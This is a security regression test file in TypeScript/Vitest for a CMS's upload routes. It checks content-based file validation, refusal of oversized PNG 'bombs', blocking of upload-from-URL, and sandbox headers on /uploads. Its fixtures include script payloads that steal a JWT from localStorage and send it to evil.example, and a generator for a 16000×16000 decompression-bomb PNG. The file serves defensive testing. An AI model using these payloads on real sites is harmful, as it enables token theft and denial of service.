/**
 * Issue 20, findings 4 and 5: every upload route checks the file by its content (PNG, JPEG, WebP;
 * PDF too in the panel's media library), never by its name or declared type, refuses images
 * whose header declares more than 4,000 px a side before anything decodes them, and /uploads
 * answers cannot run script on the site's origin (CSP sandbox, nosniff, attachment for
 * anything that is not an image).
 */
import zlib from 'node:zlib';
import { beforeAll, describe, expect, inject, it } from 'vitest';
import { form, unique } from './content-helpers';
import { api, visitorIp } from './helpers';

const LOGO_TYPE = 'يجب أن يكون الشعار صورة PNG أو JPEG أو WebP';
const FACULTY_TYPE = 'شعار الكلية يجب أن يكون صورة PNG أو JPEG أو WebP';
const PIXELS = 'أبعاد الصورة أكبر من المسموح: 4000 × 4000 بكسل على الأكثر';

// A 1×1 PNG.
const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);
const SVG = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>localStorage.getItem("jwt")</script></svg>',
);
const HTML = Buffer.from('<!doctype html><script>fetch("/x?" + localStorage.getItem("jwt"))</script>');
const JS = Buffer.from('fetch("https://evil.example/?t=" + localStorage.getItem("jwt"));');
const PDF = Buffer.from(
  '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n',
);

/** CRC-32 of a PNG chunk (type and data). */
function crc32(bytes: Buffer): number {
  let c = ~0;
  for (const b of bytes) {
    c ^= b;
    for (let k = 0; k < 8; k++) c = c & 1 ? (c >>> 1) ^ 0xedb88320 : c >>> 1;
  }
  return ~c >>> 0;
}

function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'ascii'), data]);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

/**
 * A real, decodable black-and-white PNG of `width` × `height` (1 bit a pixel, all zero): a
 * 16000 × 16000 one is about 31 KB on disk and 256 million pixels once decoded.
 */
function blankPng(width: number, height: number): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 1; // bit depth
  ihdr[9] = 0; // greyscale
  const row = 1 + Math.ceil(width / 8); // filter byte + packed bits
  const raw = Buffer.alloc(row * height);
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', ihdr),
    chunk('IDAT', zlib.deflateSync(raw, { level: 9 })),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

const file = (bytes: Buffer, name: string, type: string) => new File([new Uint8Array(bytes)], name, { type });

/** Content that must never be stored, under the names and types an attacker would pick. */
const DISGUISED: [string, Buffer, string, string][] = [
  ['a script', JS, 'app.js', 'text/javascript'],
  ['a script declared image/png', JS, 'logo.png', 'image/png'],
  ['an SVG with a script', SVG, 'logo.svg', 'image/svg+xml'],
  ['an SVG with a script declared image/png', SVG, 'logo.png', 'image/png'],
  ['an HTML page declared image/png', HTML, 'logo.png', 'image/png'],
  ['an HTML page', HTML, 'page.html', 'text/html'],
];

describe('POST and PUT /api/faculties take a logo only if its content is a PNG, JPEG or WebP', () => {
  const code = () =>
    `Q${Array.from({ length: 9 }, () => String.fromCharCode(65 + Math.floor(Math.random() * 26))).join('')}`;

  it.each(DISGUISED)('refuses %s (400, Arabic, no faculty added)', async (_label, bytes, name, type) => {
    const shortCode = code();
    const res = await form('superAdmin', '/api/faculties', 'POST', {
      name: `كلية ${shortCode}`,
      shortCode,
      imgSrc: file(bytes, name, type),
    });
    expect(res.status, JSON.stringify(res.body)).toBe(400);
    expect(res.body.message).toBe(FACULTY_TYPE);
    const search = await api(`/api/faculties/search?code=${shortCode}`);
    expect(search.body).toEqual([]);
  });

  it('refuses the same on PUT, and keeps the former logo', async () => {
    const shortCode = code();
    const created = await form('superAdmin', '/api/faculties', 'POST', {
      name: `كلية ${shortCode}`,
      shortCode,
      imgSrc: file(PNG, 'ok.png', 'image/png'),
    });
    expect(created.status).toBe(201);
    const logo = created.body.data.faculty_logo;
    expect(logo).toMatch(/^\/uploads\/.+\.png$/);
    for (const [, bytes, name, type] of DISGUISED) {
      const res = await form('superAdmin', `/api/faculties/${created.body.data.id}`, 'PUT', {
        logo: file(bytes, name, type),
      });
      expect(res.status, name).toBe(400);
      expect(res.body.message).toBe(FACULTY_TYPE);
    }
    const [after] = (await api(`/api/faculties/search?code=${shortCode}`)).body;
    expect(after.faculty_logo).toBe(logo);
  });

  it('stores a real PNG declared text/plain, under a .png name', async () => {
    const shortCode = code();
    const res = await form('superAdmin', '/api/faculties', 'POST', {
      name: `كلية ${shortCode}`,
      shortCode,
      imgSrc: file(PNG, 'logo.txt', 'text/plain'),
    });
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    expect(res.body.data.faculty_logo).toMatch(/^\/uploads\/.+\.png$/);
  });
});

describe('finding 5: an image declaring more than 4,000 px a side is refused before decoding', () => {
  const bomb = blankPng(16000, 16000);

  it('the test image is small on disk', () => {
    expect(bomb.length).toBeLessThan(64 * 1024);
  });

  it('POST /api/logos refuses a 16000×16000 PNG quickly (400, Arabic)', async () => {
    const begun = Date.now();
    const res = await form('admin', '/api/logos', 'POST', { file: file(bomb, 'bomb.png', 'image/png') });
    expect(res.status, JSON.stringify(res.body)).toBe(400);
    expect(res.body.message).toBe(PIXELS);
    expect(Date.now() - begun).toBeLessThan(3000);
  });

  it('POST /api/faculties refuses it too', async () => {
    const res = await form('superAdmin', '/api/faculties', 'POST', {
      name: 'كلية القنبلة',
      shortCode: `Q${Date.now().toString(36).toUpperCase().replace(/\d/g, 'X')}`,
      imgSrc: file(bomb, 'bomb.png', 'image/png'),
    });
    expect(res.status, JSON.stringify(res.body)).toBe(400);
    expect(res.body.message).toBe(PIXELS);
  });

  it('one pixel over on one side is refused; exactly 4000 × 4000 is accepted', async () => {
    const over = await form('admin', '/api/logos', 'POST', { file: file(blankPng(4001, 10), 'w.png', 'image/png') });
    expect(over.status).toBe(400);
    expect(over.body.message).toBe(PIXELS);
    const edge = await form('admin', '/api/logos', 'POST', {
      file: file(blankPng(4000, 4000), 'edge.png', 'image/png'),
    });
    expect(edge.status, JSON.stringify(edge.body)).toBe(201);
  });

  it('the logo route keeps its own type message', async () => {
    const res = await form('admin', '/api/logos', 'POST', { file: file(HTML, 'logo.png', 'image/png') });
    expect(res.status).toBe(400);
    expect(res.body.message).toBe(LOGO_TYPE);
  });
});

describe("the panel's media library (POST /upload) checks content too", () => {
  let token = '';
  const ip = visitorIp();

  beforeAll(async () => {
    const login = await api('/admin/login', {
      method: 'POST',
      body: { email: 'editor@dalil.local', password: 'Dalil-Editor-2026' },
      ip,
    });
    expect(login.status).toBe(200);
    token = login.body.data.token;
  });

  async function upload(bytes: Buffer, name: string, type: string) {
    const body = new FormData();
    body.append('files', new Blob([new Uint8Array(bytes)], { type }), name);
    body.append('fileInfo', JSON.stringify({ name, alternativeText: 'اختبار' }));
    return api('/upload', { method: 'POST', token, ip, raw: { data: body } });
  }

  it.each(DISGUISED)('refuses %s (400, Arabic)', async (_label, bytes, name, type) => {
    const res = await upload(bytes, name, type);
    expect(res.status, JSON.stringify(res.body)).toBe(400);
    expect(res.body.message).toBe('يُقبل ملف صورة PNG أو JPEG أو WebP أو مستند PDF فقط');
  });

  it('refuses a 16000×16000 PNG (400, Arabic)', async () => {
    const res = await upload(blankPng(16000, 16000), 'bomb.png', 'image/png');
    expect(res.status, JSON.stringify(res.body)).toBe(400);
    expect(res.body.message).toBe(PIXELS);
  });

  it('refuses fetching files from links (the server would store whatever a link answers)', async () => {
    const res = await api('/upload/actions/upload-from-urls', {
      method: 'POST',
      token,
      ip,
      body: { urls: ['http://127.0.0.1:9/page.html'] },
    });
    expect(res.status).toBe(400);
    expect(res.body.message).toBe('رفع الملفات من الروابط غير متاح؛ حمّل الملف ثم ارفعه من جهازك');
  });

  it('stores a PNG and a PDF (the site documents)', async () => {
    const png = await upload(PNG, `${unique('ok')}.png`, 'image/png');
    expect(png.status, JSON.stringify(png.body)).toBe(201);
    expect(png.body[0].mime).toBe('image/png');
    const pdf = await upload(PDF, `${unique('doc')}.pdf`, 'application/pdf');
    expect(pdf.status, JSON.stringify(pdf.body)).toBe(201);
    expect(pdf.body[0].mime).toBe('application/pdf');
  });

  it('the content API upload route (POST /api/upload) is not open to visitors', async () => {
    const body = new FormData();
    body.append('files', new Blob([new Uint8Array(HTML)], { type: 'image/png' }), 'x.png');
    const res = await api('/api/upload', { method: 'POST', raw: { data: body } });
    expect([400, 401, 403]).toContain(res.status);
  });
});

describe('/uploads answers cannot run script on the site origin', () => {
  async function stored(bytes: Buffer, name: string, type: string): Promise<string> {
    const ip = visitorIp();
    const login = await api('/admin/login', {
      method: 'POST',
      body: { email: 'editor@dalil.local', password: 'Dalil-Editor-2026' },
      ip,
    });
    const body = new FormData();
    body.append('files', new Blob([new Uint8Array(bytes)], { type }), name);
    const res = await api('/upload', { method: 'POST', token: login.body.data.token, ip, raw: { data: body } });
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    return res.body[0].url;
  }

  it('an image: CSP sandbox, nosniff, shown inline', async () => {
    const res = await fetch(`${inject('cmsUrl')}${await stored(PNG, `${unique('h')}.png`, 'image/png')}`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-security-policy')).toBe("default-src 'none'; sandbox");
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    expect(res.headers.get('content-disposition')).toBeNull();
  });

  it('a PDF: the same, and served as an attachment', async () => {
    const res = await fetch(`${inject('cmsUrl')}${await stored(PDF, `${unique('h')}.pdf`, 'application/pdf')}`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-security-policy')).toBe("default-src 'none'; sandbox");
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    expect(res.headers.get('content-disposition')).toBe('attachment');
  });

  it('a seeded SVG logo (written by the seed, not uploaded) is sandboxed too', async () => {
    const url = (await api('/api/private/links/GUC')).body.university_Logo;
    expect(url).toMatch(/^\/uploads\/.+\.svg$/);
    const res = await fetch(`${inject('cmsUrl')}${url}`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-security-policy')).toBe("default-src 'none'; sandbox");
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    expect(res.headers.get('content-disposition')).toBe('attachment');
  });

  it('a missing file under /uploads carries the headers as well', async () => {
    const res = await fetch(`${inject('cmsUrl')}/uploads/${unique('none')}.html`);
    expect(res.status).toBe(404);
    expect(res.headers.get('content-security-policy')).toBe("default-src 'none'; sandbox");
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
  });
});
